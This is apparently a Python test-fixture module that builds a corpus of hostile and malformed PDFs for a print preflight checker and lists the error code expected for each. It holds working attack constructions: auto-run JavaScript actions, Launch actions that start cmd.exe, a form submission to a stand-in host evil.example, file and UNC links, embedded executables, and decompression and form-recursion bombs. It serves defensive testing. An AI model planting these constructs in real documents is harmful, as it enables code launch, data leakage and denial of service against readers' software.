"""PDFs that are made to do harm, written by hand: what acts, what has no size, what has no end, what
asks for memory without measure, what is broken.

`CORPUS` names each with its bytes and with the code that preflight must say of it, None where any
will do that is said in time. None is larger than 3 MB.
"""

from __future__ import annotations

import io
import random
import zlib
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from functools import partial

import faulty
import pikepdf

LARGEST = 3_000_000
"""Bytes of a file."""


def raw(*objects: str | bytes, trailer: str = "") -> bytes:
    """A PDF of these objects, numbered from 1; the first is the catalogue."""
    made = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    at = []
    for number, one in enumerate(objects, start=1):
        at.append(len(made))
        body = one.encode("latin-1") if isinstance(one, str) else one
        made += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    start = len(made)
    made += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    for offset in at:
        made += b"%010d 00000 n \n" % offset
    size = len(objects) + 1
    made += f"trailer\n<< /Size {size} /Root 1 0 R {trailer} >>\n".encode()
    return bytes(made + b"startxref\n%d\n%%%%EOF\n" % start)


def stream(content: bytes | str, entries: str = "") -> bytes:
    body = content.encode("latin-1") if isinstance(content, str) else content
    return f"<< /Length {len(body)} {entries} >>\nstream\n".encode() + body + b"\nendstream"


def sheet(
    *more: str | bytes,
    catalog: str = "",
    page: str = "",
    media: str = "/MediaBox [0 0 595 842]",
    content: bytes = b"0 0 1 0 k 100 100 200 200 re f",
    pages: str = "",
    trailer: str = "",
) -> bytes:
    """A page of A4 with a field of colour; `more` are objects from 5 on."""
    return raw(
        f"<< /Type /Catalog /Pages 2 0 R {catalog} >>",
        f"<< /Type /Pages /Kids [3 0 R] /Count 1 {pages} >>",
        f"<< /Type /Page /Parent 2 0 R {media} /Contents 4 0 R {page} >>",
        stream(content),
        *more,
        trailer=trailer,
    )


JS = "<< /S /JavaScript /JS (app.alert\\(1\\)) >>"


def annotated(entries: str, *more: str | bytes) -> bytes:
    """A page with one annotation."""
    return sheet(*more, page=f"/Annots [<< /Type /Annot /Rect [0 0 99 99] {entries} >>]")


def link(action: str, *more: str | bytes) -> bytes:
    """A page with a link that does this."""
    return annotated(f"/Subtype /Link /A {action}", *more)


FILE = stream("MZ", "/Type /EmbeddedFile")
SPEC = "<< /Type /Filespec /F (x.exe) /EF << /F 5 0 R >> >>"

ACTING: dict[str, Callable[[], bytes]] = {
    "script by name": lambda: sheet(catalog=f"/Names << /JavaScript << /Names [(a) {JS}] >> >>"),
    "script when opened": lambda: sheet(catalog=f"/OpenAction {JS}"),
    "script of another object": lambda: sheet(JS, catalog="/OpenAction 5 0 R"),
    "script when closed": lambda: sheet(catalog=f"/AA << /WC {JS} >>"),
    "script of a page": lambda: sheet(page=f"/AA << /O {JS} >>"),
    "script of a link": lambda: link(JS),
    "script when the pointer comes": lambda: annotated(f"/Subtype /Link /AA << /E {JS} >>"),
    "script of a field": lambda: sheet(
        f"<< /FT /Tx /T (a) /AA << /K {JS} >> >>", catalog="/AcroForm << /Fields [5 0 R] >>"
    ),
    "script of a field of a field": lambda: sheet(
        "<< /T (a) /Kids [6 0 R] >>",
        f"<< /FT /Tx /T (b) /Parent 5 0 R /AA << /C {JS} >> >>",
        catalog="/AcroForm << /Fields [5 0 R] >>",
    ),
    "script after another action": lambda: link(f"<< /S /GoTo /D [3 0 R /Fit] /Next [{JS}] >>"),
    "script of the outline": lambda: sheet(
        "<< /First 6 0 R /Last 6 0 R /Count 1 >>",
        f"<< /Title (a) /Parent 5 0 R /A {JS} >>",
        catalog="/Outlines 5 0 R",
    ),
    "script under another spelling": lambda: link("<< /S /Java#53cript /#4aS (a) >>"),
    "script in a stream": lambda: link("<< /S /JavaScript /JS 5 0 R >>", stream("app.alert(1)")),
    "script among packed objects": lambda: packed(sheet(JS, catalog="/OpenAction 5 0 R")),
    "program": lambda: link("<< /S /Launch /F (cmd.exe) >>"),
    "program of Windows": lambda: link("<< /S /Launch /Win << /F (cmd.exe) /P (/c calc) >> >>"),
    "program when opened": lambda: sheet(catalog="/OpenAction << /S /Launch /F (x.sh) >>"),
    "script address": lambda: link("<< /S /URI /URI (javascript:alert\\(1\\)) >>"),
    "script address with spaces": lambda: link("<< /S /URI /URI ( JaVaScript:alert\\(1\\)) >>"),
    "file address": lambda: link("<< /S /URI /URI (file:///etc/passwd) >>"),
    "address of a share": lambda: link("<< /S /URI /URI (\\\\\\\\host\\\\share\\\\x.exe) >>"),
    "data address": lambda: link("<< /S /URI /URI (data:text/html,x) >>"),
    "form that is sent": lambda: link("<< /S /SubmitForm /F (https://evil.example/) >>"),
    "form that reads a file": lambda: link("<< /S /ImportData /F (x.fdf) >>"),
    "another file": lambda: link("<< /S /GoToR /F (\\\\\\\\host\\\\x.pdf) /D [0 /Fit] >>"),
    "an attached file": lambda: link("<< /S /GoToE /T << /R /C /N (x.pdf) >> /D [0 /Fit] >>"),
    "form of its own program": lambda: sheet(
        stream("<xdp/>"), catalog="/AcroForm << /Fields [] /XFA 5 0 R >>"
    ),
    "rich media that runs": lambda: link("<< /S /RichMediaExecute /CMD << /C (play) >> >>"),
}
CARRYING: dict[str, Callable[[], bytes]] = {
    "attachment": lambda: sheet(
        FILE, catalog=f"/Names << /EmbeddedFiles << /Names [(x.exe) {SPEC}] >> >>"
    ),
    "attachment of a page": lambda: annotated(f"/Subtype /FileAttachment /FS {SPEC}", FILE),
    "associated file": lambda: sheet(FILE, catalog=f"/AF [{SPEC}]"),
    "rich media": lambda: annotated("/Subtype /RichMedia /RichMediaContent << >>"),
    "model": lambda: annotated("/Subtype /3D /3DD << >>"),
    "film": lambda: annotated("/Subtype /Movie /Movie << /F (x.avi) >>"),
    "sound": lambda: annotated("/Subtype /Sound /Sound 5 0 R", stream("x", "/R 8000")),
    "screen": lambda: annotated("/Subtype /Screen /T (a)"),
}
SIZES = {
    "no area": "/MediaBox [0 0 0 0]",
    "no height": "/MediaBox [0 0 595 0]",
    "five kilometres": "/MediaBox [0 0 14400000 14400000]",
    "a unit of a mile": "/MediaBox [0 0 595 842] /UserUnit 100000",
    "a unit of nothing": "/MediaBox [0 0 595 842] /UserUnit 0",
    "a unit below nothing": "/MediaBox [0 0 595 842] /UserUnit -1",
    "a unit with a name": "/MediaBox [0 0 595 842] /UserUnit /Metre",
    "aslant": "/MediaBox [0 0 595 842] /Rotate 37",
    "turned by a word": "/MediaBox [0 0 595 842] /Rotate (left)",
    "names for sides": "/MediaBox [/a /b /c /d]",
    "three sides": "/MediaBox [0 0 595]",
    "no sides": "",
    "a text for sides": "/MediaBox (A4)",
    "a number for sides": "/MediaBox 595",
    "a grain of dust": "/MediaBox [0 0 1 1]",
    "names for a crop": "/MediaBox [0 0 595 842] /CropBox [/a /b /c /d]",
    "a trim of no area": "/MediaBox [0 0 595 842] /TrimBox [9 9 9 9]",
}


def packed(data: bytes) -> bytes:
    """The same PDF with its objects in compressed streams."""
    with pikepdf.open(io.BytesIO(data)) as document:
        made = io.BytesIO()
        document.save(made, object_stream_mode=pikepdf.ObjectStreamMode.generate)
    return made.getvalue()


def form(content: str, resources: str) -> bytes:
    entries = f"/Type /XObject /Subtype /Form /BBox [0 0 595 842] /Resources << {resources} >>"
    return stream(content, entries)


def form_bomb(layers: int = 30) -> bytes:
    """Forms that draw the next one twice: 2³⁰ squares in 6 KB."""
    forms = [form("/N Do /N Do", f"/XObject << /N {6 + at} 0 R >>") for at in range(layers)]
    return sheet(
        *forms,
        form("0 0 1 1 re f", ""),
        page="/Resources << /XObject << /N 5 0 R >> >>",
        content=b"/N Do",
    )


def image(columns: int, rows: int, data: bytes = b"x", more: str = "/Filter /FlateDecode") -> bytes:
    """A page with an image that says to have so many pixels."""
    entries = (
        f"/Subtype /Image /Width {columns} /Height {rows} /ColorSpace /DeviceGray "
        f"/BitsPerComponent 8 {more}"
    )
    return sheet(
        stream(data, entries),
        page="/Resources << /XObject << /I 5 0 R >> >>",
        content=b"q 500 0 0 500 9 9 cm /I Do Q",
    )


PATTERN = "/PatternType 1 /PaintType 1 /TilingType 1 /BBox [0 0 9 9]"
ENDLESS: dict[str, Callable[[], bytes]] = {
    "a form of itself": lambda: sheet(
        form("/N Do", "/XObject << /N 5 0 R >>"),
        page="/Resources << /XObject << /N 5 0 R >> >>",
        content=b"/N Do",
    ),
    "a form of itself by the page's names": lambda: sheet(
        stream("/N Do", "/Subtype /Form /BBox [0 0 99 99]"),
        page="/Resources << /XObject << /N 5 0 R >> >>",
        content=b"/N Do",
    ),
    "two forms of each other": lambda: sheet(
        form("/N Do", "/XObject << /N 6 0 R >>"),
        form("/N Do", "/XObject << /N 5 0 R >>"),
        page="/Resources << /XObject << /N 5 0 R >> >>",
        content=b"/N Do",
    ),
    "a pattern of itself": lambda: sheet(
        stream(
            "/Pattern cs /P scn 0 0 9 9 re f",
            f"{PATTERN} /XStep 9 /YStep 9 /Resources << /Pattern << /P 5 0 R >> >>",
        ),
        page="/Resources << /Pattern << /P 5 0 R >> >>",
        content=b"/Pattern cs /P scn 0 0 500 500 re f",
    ),
    "a mask of itself": lambda: sheet(
        "<< /SMask << /S /Alpha /G 6 0 R >> >>",
        form("/G gs 0 0 9 9 re f", "/ExtGState << /G 5 0 R >>"),
        page="/Resources << /ExtGState << /G 5 0 R >> >>",
        content=b"/G gs 0 0 99 99 re f",
    ),
    "forms without end": form_bomb,
    "an image of two thousand million pixels": lambda: image(50_000, 40_000),
    "twenty thousand pages": lambda: raw(
        "<< /Type /Catalog /Pages 2 0 R >>",
        f"<< /Type /Pages /Count 20000 /Kids [{'3 0 R ' * 20_000}] >>",
        "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>",
    ),
}


def bomb(megabytes: int) -> bytes:
    """Zeros, deflated; made of one part many times, which is quicker than to deflate them all."""
    part = zlib.compressobj(9, zlib.DEFLATED, -15)
    block = part.compress(bytes(8_000_000)) + part.flush(zlib.Z_FULL_FLUSH)
    count = megabytes // 8
    end = zlib.compressobj(9, zlib.DEFLATED, -15).flush()
    check = (count * 8_000_000 % 65521) << 16 | 1
    return b"\x78\xda" + block * count + end + check.to_bytes(4, "big")


def with_bomb(kind: str) -> bytes:
    """A file whose stream of this kind inflates to more memory than it may have."""
    data = bomb(2400)
    packed_away = stream(data, "/Filter /FlateDecode")
    if kind == "content":
        return sheet(packed_away).replace(b"/Contents 4 0 R", b"/Contents 5 0 R")
    if kind == "font":
        return sheet(
            "<< /Type /Font /Subtype /TrueType /BaseFont /A /FirstChar 65 /LastChar 65 "
            "/Widths [600] /FontDescriptor 6 0 R >>",
            "<< /Type /FontDescriptor /FontName /A /Flags 32 /FontBBox [0 0 9 9] /ItalicAngle 0 "
            "/Ascent 9 /Descent 0 /CapHeight 9 /StemV 9 /FontFile2 7 0 R >>",
            packed_away,
            page="/Resources << /Font << /F 5 0 R >> >>",
            content=b"BT /F 40 Tf 99 99 Td (A) Tj ET",
        )
    return image(40_000, 24_000, data)


def deep(opening: str, closing: str, layers: int) -> str:
    return opening * layers + closing * layers


HEAVY: dict[str, Callable[[], bytes]] = {
    "content that inflates": partial(with_bomb, "content"),
    "a font that inflates": partial(with_bomb, "font"),
    "an image that inflates": partial(with_bomb, "image"),
    "a million lines": lambda: sheet(content=b"0 0 m 9 9 l S " * 200_000),
    "a million states": lambda: sheet(content=b"q " * 1_000_000),
    "arrays in arrays": lambda: sheet(content=deep("[", "]", 500_000).encode() + b" TJ"),
    "dictionaries in dictionaries": lambda: sheet(deep("<</A", ">>", 100_000), page="/X 5 0 R"),
    "a pattern of a hair": lambda: sheet(
        stream("0 0 1 1 re f", f"{PATTERN} /XStep 0.001 /YStep 0.001 /Resources << >>"),
        page="/Resources << /Pattern << /P 5 0 R >> >>",
        content=b"/Pattern cs /P scn 0 0 500 500 re f",
    ),
    "dashes of a hair": lambda: sheet(content=b"[0.00001 0.00001] 0 d 1 w 0 0 m 595 842 l S"),
    "a line as wide as the world": lambda: sheet(content=b"99999999999 w 0 0 m 595 842 l S"),
    "numbers of 300 digits": lambda: sheet(content=b"9" * 300 + b" 0 0 1 0 0 cm 0 0 9 9 re f"),
    "a shading of a million steps": lambda: sheet(
        page="/Resources << /Shading << /S << /ShadingType 1 /ColorSpace /DeviceGray "
        "/Domain [0 1000000 0 1000000] /Function << /FunctionType 4 /Domain [0 1 0 1] "
        "/Range [0 1] >> >> >> >>",
        content=b"/S sh",
    ),
}
CIRCLES: dict[str, Callable[[], bytes]] = {
    "pages of themselves": lambda: raw(
        "<< /Type /Catalog /Pages 2 0 R >>", "<< /Type /Pages /Kids [2 0 R] /Count 1 >>"
    ),
    "a parent that is its own": lambda: sheet(media="", pages="/Parent 2 0 R"),
    "more pages than there are": lambda: sheet(pages="/Count 2000000000"),
    "names of themselves": lambda: sheet(
        "<< /Kids [5 0 R] >>", catalog="/Names << /JavaScript 5 0 R >>"
    ),
    "an outline that comes back": lambda: sheet(
        "<< /First 6 0 R /Last 6 0 R >>",
        "<< /Title (a) /Parent 5 0 R /Next 6 0 R >>",
        catalog="/Outlines 5 0 R",
    ),
    "an action after itself": lambda: sheet(
        "<< /S /GoTo /D [3 0 R /Fit] /Next 5 0 R >>", catalog="/OpenAction 5 0 R"
    ),
    "tags of themselves": lambda: sheet(
        "<< /Type /StructTreeRoot /K [5 0 R] >>", catalog="/StructTreeRoot 5 0 R"
    ),
    "a length of itself": lambda: sheet().replace(b"/Length 30", b"/Length 4 0 R"),
    "a gradient of itself": lambda: sheet(
        "<< /FunctionType 3 /Domain [0 1] /Functions [5 0 R] /Bounds [] /Encode [0 1] >>",
        page="/Resources << /Shading << /S << /ShadingType 2 /ColorSpace /DeviceGray "
        "/Coords [0 0 9 9] /Function 5 0 R >> >> >>",
        content=b"/S sh",
    ),
    "a colour of itself": lambda: sheet(
        "[/Indexed 5 0 R 1 (ab)]",
        page="/Resources << /ColorSpace << /C 5 0 R >> >>",
        content=b"/C cs 1 sc 0 0 99 99 re f",
    ),
}
BROKEN: dict[str, tuple[Callable[[], bytes], str | None]] = {
    "nothing": (lambda: b"", "E801"),
    "a heading": (lambda: b"%PDF-1.7\n", "E801"),
    "sides of 400 digits": (
        lambda: sheet(media=f"/MediaBox [0 0 {'9' * 400} {'9' * 400}]"),
        "E801",
    ),
    "a trim of 40 digits": (
        lambda: sheet(media=f"/MediaBox [0 0 595 842] /TrimBox [0 0 1{'0' * 40} 99]"),
        "E801",
    ),
    "zeros": (lambda: bytes(1_000_000), "E801"),
    "an archive": (lambda: b"PK\x03\x04" + bytes(500), "E801"),
    "a page of the web": (lambda: b"<!doctype html><title>404</title>", "E801"),
    "no catalogue": (lambda: raw("<< /Type /Font >>"), "E801"),
    "no page": (
        lambda: raw("<< /Type /Catalog /Pages 2 0 R >>", "<< /Type /Pages /Kids [] /Count 0 >>"),
        "E801",
    ),
    "cut off in the middle": (lambda: sheet()[:400], "E801"),
    "cut off near the end": (lambda: sheet()[:-30], "E801"),
    "a table of objects elsewhere": (
        lambda: sheet().replace(b"startxref\n", b"startxref\n9"),
        "E801",
    ),
    "a table of objects before itself": (lambda: sheet(trailer="/Prev 0"), None),
    "locked": (lambda: faulty.MAKERS["E802"](), "E802"),
    "restricted": (lambda: faulty.MAKERS["W834"](), "W834"),
    "a wrong length": (lambda: faulty.MAKERS["W833"](), "W833"),
    "a filter that is not known": (
        lambda: sheet(stream("x", "/Filter /Nothing"), page="/Resources 5 0 R"),
        None,
    ),
}


def noise(seed: int) -> bytes:
    """A sound sheet of which some bytes are others."""
    chance = random.Random(seed)
    data = bytearray(faulty.draw())
    for _ in range(1 + seed * 8):
        data[chance.randrange(len(data))] = chance.randrange(256)
    return bytes(data)


@dataclass(frozen=True)
class Hostile:
    """A file of the corpus. code: what preflight must say; None for anything. printable: whether
    its pages may be imposed: scripts are left behind by that."""

    make: Callable[[], bytes]
    code: str | None
    printable: bool = True


def _corpus() -> Iterator[tuple[str, Hostile]]:
    for names, code, printable in (
        (ACTING, "E830", True),
        (CARRYING, "W830", True),
        ({name: partial(sheet, media=size) for name, size in SIZES.items()}, "E831", False),
        (ENDLESS, "E832", False),
        (HEAVY, None, True),
        (CIRCLES, None, True),
    ):
        for name, make in names.items():
            yield name, Hostile(make, code, printable)
    for name, (make, code) in BROKEN.items():
        yield name, Hostile(make, code, code not in ("E801", "E802"))
    for seed in range(8):
        yield f"noise {seed}", Hostile(partial(noise, seed), None)


CORPUS = dict(_corpus())
